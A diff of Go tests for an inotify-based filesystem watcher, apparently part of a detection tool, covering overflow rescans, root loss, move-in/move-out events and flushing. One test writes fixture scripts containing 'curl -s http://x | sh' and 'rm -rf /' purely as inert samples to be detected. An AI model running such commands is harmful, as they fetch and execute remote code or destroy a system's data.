@@ -10,6 +10,7 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"syscall"
 	"testing"
 	"time"
@@ -537,32 +538,44 @@ func TestRenamedFromParsing(t *testing.T) {
 func TestOverflowRescan(t *testing.T) {
 	root := t.TempDir()
 	sub := filepath.Join(root, "sub")
-	if err := os.Mkdir(sub, 0o755); err != nil {
+	if err := os.MkdirAll(filepath.Join(sub, "old"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	w, c := start(t, fastCfg(root))
-	// Lose events on purpose: drop the kernel watch on sub behind the
-	// watcher's back (as if its events had overflowed away), change files.
-	if err := w.fsw.Remove(sub); err != nil {
+	w, err := New(fastCfg(root), nil)
+	if err != nil {
 		t.Fatal(err)
 	}
-	delete(w.dirs, sub) // what an overflow leaves us not knowing
-	lost := filepath.Join(sub, "lost.txt")
-	write(t, lost, []byte("changed while events were lost\n"))
+	// Lose events on purpose: nothing handles them before Run. sub (and
+	// sub/old) are deleted, sub is made again under the same name and
+	// filled, as if all of it had happened in an inotify queue overflow.
+	if err := os.RemoveAll(sub); err != nil {
+		t.Fatal(err)
+	}
 	if err := os.MkdirAll(filepath.Join(sub, "n1", "n2"), 0o755); err != nil {
 		t.Fatal(err)
 	}
+	lost := filepath.Join(sub, "lost.txt")
+	write(t, lost, []byte("changed while events were lost\n"))
 	lost2 := filepath.Join(sub, "n1", "n2", "deep.txt")
 	write(t, lost2, []byte("deep\n"))
-	write(t, filepath.Join(root, "marker"), nil)
-	evs := c.waitFor(t, "marker", has(event.FileCreate, filepath.Join(root, "marker")))
-	for _, e := range evs {
-		if e.Path == lost || e.Path == lost2 {
-			t.Fatalf("event for an unwatched dir before the rescan: %+v", e)
+	// Throw the events away, up to a marker (inotify keeps their order).
+	marker := filepath.Join(root, "marker")
+	write(t, marker, nil)
+	deadline := time.After(20 * time.Second)
+	for seen := false; !seen; {
+		select {
+		case ev := <-w.fsw.Events:
+			seen = ev.Name == marker && ev.Has(fsnotify.Create)
+		case <-deadline:
+			t.Fatal("no event for the marker")
 		}
 	}
-	w.fsw.Errors <- fsnotify.ErrEventOverflow // what fsnotify sends on IN_Q_OVERFLOW
-	evs = c.waitFor(t, "rescan events", func(evs []event.File) bool {
+	w.handleError(fsnotify.ErrEventOverflow) // what the loop does on IN_Q_OVERFLOW
+	if _, ok := w.dirs[filepath.Join(sub, "old")]; ok || w.Stats().Watches != 4 {
+		t.Fatalf("after the rescan: %d watches, want 4 (root, sub, n1, n2); dirs %v", w.Stats().Watches, w.dirs)
+	}
+	_, c := run(t, w)
+	evs := c.waitFor(t, "rescan events", func(evs []event.File) bool {
 		a, b := find(evs, event.FileWrite, lost), find(evs, event.FileWrite, lost2)
 		return a != nil && b != nil
 	})
@@ -572,10 +585,271 @@ func TestOverflowRescan(t *testing.T) {
 	if s := w.Stats(); s.Overflows != 1 || s.Rescans != 1 || s.RescanEvents < 2 {
 		t.Fatalf("counters %+v", s)
 	}
-	// The rescan re-added the watches: live events flow again from the deep dir.
-	again := filepath.Join(sub, "n1", "n2", "again.txt")
+	// The rescan watched the new sub (a known name, a new directory) and the
+	// new dirs below it: live events flow again from both.
+	again := filepath.Join(sub, "again.txt")
 	write(t, again, []byte("again\n"))
-	c.waitFor(t, "live event after rescan", has(event.FileCreate, again))
+	c.waitFor(t, "live event in the recreated dir", has(event.FileCreate, again))
+	again2 := filepath.Join(sub, "n1", "n2", "again.txt")
+	write(t, again2, []byte("again\n"))
+	c.waitFor(t, "live event in the new deep dir", has(event.FileCreate, again2))
+}
+
+// runToEnd runs w like run, but hands Run's result to the test.
+func runToEnd(t *testing.T, w *Watcher) (*collector, <-chan error) {
+	t.Helper()
+	ctx, cancel := context.WithCancel(context.Background())
+	out := make(chan []event.File, 64)
+	c := &collector{}
+	done := make(chan error, 1)
+	go func() { done <- w.Run(ctx, out) }()
+	drained := make(chan struct{})
+	go func() {
+		defer close(drained)
+		for b := range out {
+			c.mu.Lock()
+			c.evs = append(c.evs, b...)
+			c.mu.Unlock()
+		}
+	}()
+	t.Cleanup(func() { cancel(); <-drained })
+	return c, done
+}
+
+// TestRootLost: a root deleted, renamed or replaced is no longer watched
+// (inotify follows the old directory): Run must fail, counted, not carry on
+// blind.
+func TestRootLost(t *testing.T) {
+	cases := []struct {
+		name  string
+		check time.Duration // the periodic root check
+		lose  func(t *testing.T, w *Watcher, root string)
+		event func(root string) func([]event.File) bool // the root's own event, if one is reported
+	}{
+		{"deleted", 50 * time.Millisecond, func(t *testing.T, _ *Watcher, root string) {
+			// No IN_DELETE_SELF while the watcher holds the root open: the
+			// periodic check finds it.
+			if err := os.RemoveAll(root); err != nil {
+				t.Fatal(err)
+			}
+		}, func(root string) func([]event.File) bool { return has(event.FileRemove, filepath.Join(root, "sub")) }},
+		{"renamed and made again", time.Hour, func(t *testing.T, _ *Watcher, root string) {
+			if err := os.Rename(root, root+".old"); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Mkdir(root, 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}, func(root string) func([]event.File) bool {
+			return func(evs []event.File) bool {
+				for _, e := range evs {
+					if e.Op == event.FileRename && e.OldPath == root && e.Path == "" {
+						return true
+					}
+				}
+				return false
+			}
+		}},
+		{"parent renamed", 50 * time.Millisecond, func(t *testing.T, _ *Watcher, root string) {
+			// No event reaches the watcher.
+			if err := os.Rename(filepath.Dir(root), filepath.Dir(root)+"2"); err != nil {
+				t.Fatal(err)
+			}
+		}, nil},
+		{"replaced while events were lost", time.Hour, func(t *testing.T, w *Watcher, root string) {
+			if err := w.fsw.Remove(root); err != nil { // its IN_MOVE_SELF is lost
+				t.Fatal(err)
+			}
+			if err := os.Rename(root, root+".old"); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Mkdir(root, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			w.fsw.Errors <- fsnotify.ErrEventOverflow // the rescan finds it
+		}, nil},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			root := filepath.Join(t.TempDir(), "parent", "www")
+			if err := os.MkdirAll(filepath.Join(root, "sub"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			w, err := New(fastCfg(root), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			w.rootCheck = tc.check
+			c, done := runToEnd(t, w)
+			write(t, filepath.Join(root, "sub", "before.txt"), []byte("x"))
+			c.waitFor(t, "a live event", has(event.FileCreate, filepath.Join(root, "sub", "before.txt")))
+			tc.lose(t, w, root)
+			select {
+			case err := <-done:
+				if !errors.Is(err, ErrRootGone) || !strings.Contains(err.Error(), root) {
+					t.Fatalf("Run: %v, want an error wrapping ErrRootGone naming %s", err, root)
+				}
+			case <-time.After(20 * time.Second):
+				t.Fatal("Run carried on after its root was lost")
+			}
+			if s := w.Stats(); s.RootsLost != 1 {
+				t.Fatalf("roots lost %d, want 1", s.RootsLost)
+			}
+			if tc.event != nil {
+				c.waitFor(t, "the root's event", tc.event(root))
+			}
+		})
+	}
+}
+
+// TestMoveInAfterMoveOut: a name moved out of the tree and another moved in
+// from outside are two events, not one rename; a directory moved in is new
+// and its files are reported.
+func TestMoveInAfterMoveOut(t *testing.T) {
+	base := t.TempDir()
+	root, outside := filepath.Join(base, "tree"), filepath.Join(base, "outside")
+	for _, d := range []string{root, filepath.Join(outside, "payload")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(t, filepath.Join(root, "decoy.txt"), []byte("decoy\n"))
+	write(t, filepath.Join(root, "notes.txt"), []byte("notes\n"))
+	write(t, filepath.Join(outside, "payload", "dropper.sh"), []byte("#!/bin/sh\ncurl -s http://x | sh\n"))
+	write(t, filepath.Join(outside, "evil.sh"), []byte("#!/bin/sh\nrm -rf /\n"))
+	cfg := fastCfg(root)
+	cfg.RenameWindow = time.Second // generous: nothing may pair the halves by time
+	_, c := start(t, cfg)
+	for _, mv := range [][2]string{
+		{filepath.Join(root, "decoy.txt"), filepath.Join(base, "decoy.txt")},
+		{filepath.Join(outside, "payload"), filepath.Join(root, "payload")},
+		{filepath.Join(root, "notes.txt"), filepath.Join(base, "notes.txt")},
+		{filepath.Join(outside, "evil.sh"), filepath.Join(root, "evil.sh")},
+	} {
+		if err := os.Rename(mv[0], mv[1]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	dropper, evil := filepath.Join(root, "payload", "dropper.sh"), filepath.Join(root, "evil.sh")
+	movedOut := func(evs []event.File, old string) bool {
+		for _, e := range evs {
+			if e.Op == event.FileRename && e.OldPath == old && e.Path == "" {
+				return true
+			}
+		}
+		return false
+	}
+	evs := c.waitFor(t, "the moves", func(evs []event.File) bool {
+		return find(evs, event.FileCreate, dropper) != nil && find(evs, event.FileCreate, evil) != nil &&
+			movedOut(evs, filepath.Join(root, "decoy.txt")) && movedOut(evs, filepath.Join(root, "notes.txt"))
+	})
+	for _, e := range evs {
+		if e.Op == event.FileRename && e.Path != "" {
+			t.Fatalf("a move in taken for a rename: %+v", e)
+		}
+	}
+	if e := find(evs, event.FileCreate, dropper); e.Flags&event.FileFlagSampled == 0 {
+		t.Fatalf("dropper not sampled: %+v", *e)
+	}
+}
+
+// TestFinalFlushDeliversAll: at shutdown every event still waiting goes to
+// the sampler, however small its queue.
+func TestFinalFlushDeliversAll(t *testing.T) {
+	root := t.TempDir()
+	cfg := fastCfg(root)
+	cfg.Debounce = time.Hour // nothing closes by time: all wait for the final flush
+	cfg.QueueSize = 16
+	w, err := New(cfg, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.flushTimeout = 10 * time.Minute // no machine is that slow
+	const n = 8000
+	for i := range n {
+		w.debounce(filepath.Join(root, fmt.Sprintf("f%05d", i)), 0, event.FileCreate, 0, "")
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()                          // shutting down with n events waiting
+	out := make(chan []event.File, n) // room for every batch: none is dropped there
+	if err := w.Run(ctx, out); err != nil {
+		t.Fatal(err)
+	}
+	got := 0
+	for b := range out {
+		got += len(b)
+	}
+	if s := w.Stats(); got != n || s.Dropped != 0 {
+		t.Fatalf("delivered %d of %d, dropped %d", got, n, s.Dropped)
+	}
+}
+
+// TestFinalFlushCountsDrops: when the final flush runs out of time, every
+// event it could not hand over is counted, none silently lost.
+func TestFinalFlushCountsDrops(t *testing.T) {
+	root := t.TempDir()
+	cfg := fastCfg(root)
+	cfg.Debounce = time.Hour
+	cfg.QueueSize = 16
+	w, err := New(cfg, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { w.fsw.Close(); w.closeRoots() })
+	w.flushTimeout = time.Millisecond
+	const n, renames = 1000, 10
+	for i := range n {
+		w.debounce(filepath.Join(root, fmt.Sprintf("f%04d", i)), 0, event.FileCreate, 0, "")
+	}
+	for i := range renames {
+		w.renames[filepath.Join(root, fmt.Sprintf("r%d", i))] = renameHalf{ns: w.stamp()}
+	}
+	w.flush(true) // no sampler: the queue fills and stays full
+	if q, d := len(w.work), w.Stats().Dropped; q+int(d) != n+renames || len(w.pend)+len(w.renames) != 0 {
+		t.Fatalf("%d queued + %d dropped of %d; %d left", q, d, n+renames, len(w.pend)+len(w.renames))
+	}
+}
+
+// TestEventTimesNeverGoBack: event times follow the monotonic clock when the
+// wall clock is set back (the detector's rates must keep decaying), and the
+// wall clock when it is set forward.
+func TestEventTimesNeverGoBack(t *testing.T) {
+	root := t.TempDir()
+	w, err := New(fastCfg(root), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var offset atomic.Int64 // how far the wall clock is set off
+	w.now = func() time.Time { return time.Now().Add(time.Duration(offset.Load())) }
+	_, c := run(t, w)
+	a := filepath.Join(root, "a.txt")
+	write(t, a, []byte("a"))
+	ta := c.waitFor(t, "a", has(event.FileCreate, a))
+	ta0 := find(ta, event.FileCreate, a).TimeNs
+
+	offset.Store(int64(-time.Hour)) // the wall clock is set back an hour
+	b := filepath.Join(root, "b.txt")
+	write(t, b, []byte("b"))
+	if err := os.Remove(a); err != nil {
+		t.Fatal(err)
+	}
+	evs := c.waitFor(t, "b and the removal of a", func(evs []event.File) bool {
+		return find(evs, event.FileCreate, b) != nil && find(evs, event.FileRemove, a) != nil
+	})
+	for _, e := range []*event.File{find(evs, event.FileCreate, b), find(evs, event.FileRemove, a)} {
+		if e.TimeNs < ta0 {
+			t.Fatalf("event time went back by %v after the clock was set back: %+v", time.Duration(ta0-e.TimeNs), *e)
+		}
+	}
+
+	offset.Store(int64(24 * time.Hour)) // set a day forward
+	ahead := time.Now().Add(24 * time.Hour).UnixNano()
+	cp := filepath.Join(root, "c.txt")
+	write(t, cp, []byte("c"))
+	evs = c.waitFor(t, "c", has(event.FileCreate, cp))
+	if e := find(evs, event.FileCreate, cp); e.TimeNs < ahead {
+		t.Fatalf("a clock set forward is not followed: %v behind", time.Duration(ahead-e.TimeNs))
+	}
 }
 
 func TestWatchLimitError(t *testing.T) {
